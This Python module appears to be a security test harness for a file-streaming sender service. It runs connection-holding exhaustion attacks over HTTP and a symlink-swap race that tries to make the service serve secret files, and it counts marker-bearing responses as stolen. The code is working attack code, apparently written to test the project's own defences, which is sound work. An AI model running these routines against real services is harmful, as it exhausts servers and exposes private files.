"""Abuse of a sender's files: over HTTP by who has a token, and by who may write to its folder."""

from __future__ import annotations

import asyncio
from contextlib import suppress
from pathlib import Path

from diffc_stream.session import MAX_WINDOW, Data, Error, Hello, Open
from diffc_stream.session.messages import End

from .abuse_attack import Attack, keep_up
from .abuse_tally import Pace
from .abuse_wire import Wire

HELD = 60.0
"""Seconds that an answer is left unread."""
MARK = b"nobody's business but the user's"
"""In every secret."""
_SMALL = 4096


async def ranges(attack: Attack) -> None:
    """Ask 10 times a second for a byte of a large stream, for all or its head; leave 40 unread."""
    path = f"/{attack.prey.large}"

    async def once(number: int) -> None:
        wire = await Wire.dial(attack.front, buffer=_SMALL)
        try:
            method = "HEAD" if number % 3 == 1 else "GET"
            shown = f"Authorization: Bearer {attack.token}"
            lines = (shown,) if number % 3 == 2 else (shown, "Range: bytes=0-0")
            await wire.request(attack.front, path, *lines, method=method)
            if number % 3 == 0:
                await wire.answer()
            else:
                await asyncio.sleep(HELD)
        finally:
            wire.close()

    await keep_up(attack, 60, 10, once)


async def models(attack: Attack) -> None:
    """Ask 5 times a second for the model that pages load, and leave it unread, 100 at once."""
    path = f"/-/models/{attack.prey.model}.safetensors"

    async def once(_: int) -> None:
        wire = await Wire.dial(attack.front, buffer=_SMALL)
        try:
            await wire.request(attack.front, path, f"Authorization: Bearer {attack.token}")
            await asyncio.sleep(HELD)
        finally:
            wire.close()

    await keep_up(attack, 100, 5, once)


async def links(attack: Attack) -> None:
    """Swap streams for links to secrets 50 times a second, and ask for them 20 times a second."""
    folder, secret = Path(attack.prey.folder), Path(attack.prey.secret)
    names = ("swapped.dfc", "swapped/key.dfc", "swapped.png")
    calm = (folder / attack.prey.ready[0]).read_bytes()

    async def once(number: int) -> None:
        wire = await Wire.dial(attack.front)
        try:
            name = names[number // 2 % len(names)]
            if number % 2:
                got = await _opened(attack, wire, name)
            else:
                path = name if name.endswith(".dfc") else f"{name}.dfc"
                shown = f"Authorization: Bearer {attack.token}"
                await wire.request(attack.front, f"/{path}", shown)
                _, got = await wire.answer()
            attack.tally.stolen += MARK in got
        finally:
            wire.close()

    async with asyncio.TaskGroup() as tasks:
        tasks.create_task(_swap(folder, secret, calm))
        tasks.create_task(keep_up(attack, 6, 20, once))


async def _opened(attack: Attack, wire: Wire, name: str) -> bytes:
    """Return what a sender gives of a stream."""
    await wire.upgrade(attack.front, attack.token)
    await wire.say(Hello(window=MAX_WINDOW, idle=60.0), Open(stream=1, image=name))
    got = b""
    while not isinstance(message := await wire.hear(), (End, Error)):
        if isinstance(message, Data):
            got += message.payload
    return got


async def _swap(folder: Path, secret: Path, calm: bytes) -> None:
    """Have files, and a folder, be now what they seem and now links to secrets."""
    aside = folder / ".aside"
    (aside / "real").mkdir(parents=True)
    (aside / "real" / "key.dfc").write_bytes(calm)
    (aside / "link").symlink_to(secret)
    shown, hidden, pace = aside / "real", aside / "link", Pace(50)
    try:
        while True:
            await pace.turn()
            for name in ("swapped.dfc", "swapped.png"):
                part = aside / name
                if shown.name == "real":
                    part.symlink_to(secret / name.replace("swapped", "key"))
                else:
                    part.write_bytes(calm)
                part.replace(folder / name)
            with suppress(FileNotFoundError):  # the first time
                (folder / "swapped").rename(hidden)
            shown.rename(folder / "swapped")
            shown, hidden = hidden, shown
    finally:
        for name in ("swapped.dfc", "swapped.png"):
            (folder / name).unlink(missing_ok=True)
